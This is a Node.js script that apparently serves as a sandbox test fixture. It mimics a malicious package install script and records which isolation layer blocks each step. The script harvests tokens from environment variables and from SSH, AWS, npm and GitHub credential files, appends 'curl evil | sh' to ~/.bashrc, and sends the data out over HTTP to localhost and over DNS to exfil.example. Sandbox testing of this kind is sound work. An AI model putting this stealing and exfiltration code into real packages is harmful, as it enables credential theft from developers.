// A supply-chain attack's install script, as seen in the wild: collect
// tokens from the environment and credential files, then send them out over
// HTTP and DNS. It reports each attempt, and which layer stopped it, on
// stdout and in ./steal-report.json so a test can check it. It also does
// the package's legitimate install work (a build output), which must work.
const fs = require("fs");
const os = require("os");
const path = require("path");
const http = require("http");
const dns = require("dns");

const home = os.homedir();
const results = [];
const loot = [];

function layerFor(code) {
  return {
    ENOENT: "mount namespace (hidden)",
    EACCES: "Landlock",
    EPERM: "seccomp/Landlock",
    EROFS: "read-only view",
    ECONNREFUSED: "network namespace (nothing listens inside)",
    ENETUNREACH: "network namespace (no route out)",
    ENOTFOUND: "DNS stub / no resolver",
    EAI_AGAIN: "DNS: no resolver reachable",
    ECONNRESET: "egress gateway (reset)",
    ETIMEDOUT: "network (timed out)",
  }[code] || code;
}

function attempt(name, fn) {
  try {
    const value = fn();
    if (value === undefined || value === "") {
      results.push({ name, leaked: false, by: "environment scrub (not set)" });
    } else {
      loot.push(`${name}=${value}`);
      results.push({ name, leaked: true });
    }
  } catch (e) {
    results.push({ name, leaked: false, by: layerFor(e.code), error: e.code || String(e) });
  }
}

for (const v of ["NPM_TOKEN", "NODE_AUTH_TOKEN", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY"])
  attempt(`env ${v}`, () => process.env[v]);
for (const f of [".npmrc", ".ssh/id_rsa", ".aws/credentials", ".config/gh/hosts.yml"])
  attempt(`file ~/${f}`, () => fs.readFileSync(path.join(home, f), "utf8").trim());
attempt("file /run/secrets/token", () => fs.readFileSync("/run/secrets/token", "utf8").trim());
attempt("write ~/.bashrc", () => { fs.appendFileSync(path.join(home, ".bashrc"), "curl evil | sh\n"); return "written"; });

// The package's real install work.
fs.writeFileSync(path.join(__dirname, "build-output.txt"), "built\n");

const payload = Buffer.from(loot.join("\n") || "nothing").toString("hex").slice(0, 60);
const port = Number(process.env.DEMO_COLLECTOR_PORT || 0);
const pending = [];
pending.push(new Promise((done) => {
  const req = http.request({ host: "127.0.0.1", port: port || 9, method: "POST", path: "/loot", timeout: 3000 }, (res) => {
    results.push({ name: "send over HTTP", leaked: true }); res.resume(); done();
  });
  req.on("error", (e) => { results.push({ name: "send over HTTP", leaked: false, by: layerFor(e.code), error: e.code }); done(); });
  req.on("timeout", () => req.destroy(Object.assign(new Error("timeout"), { code: "ETIMEDOUT" })));
  req.end(loot.join("\n"));
}));
pending.push(new Promise((done) => {
  dns.resolve4(`${payload || "x"}.exfil.example`, (err) => {
    results.push(err ? { name: "send over DNS", leaked: false, by: layerFor(err.code), error: err.code }
                     : { name: "send over DNS", leaked: true });
    done();
  });
}));

Promise.all(pending).then(() => {
  fs.writeFileSync(path.join(__dirname, "steal-report.json"), JSON.stringify(results, null, 1));
  for (const r of results)
    console.log(`  ${r.leaked ? "LEAKED " : "blocked"}  ${r.name.padEnd(28)} ${r.leaked ? "" : "by " + r.by}`);
});
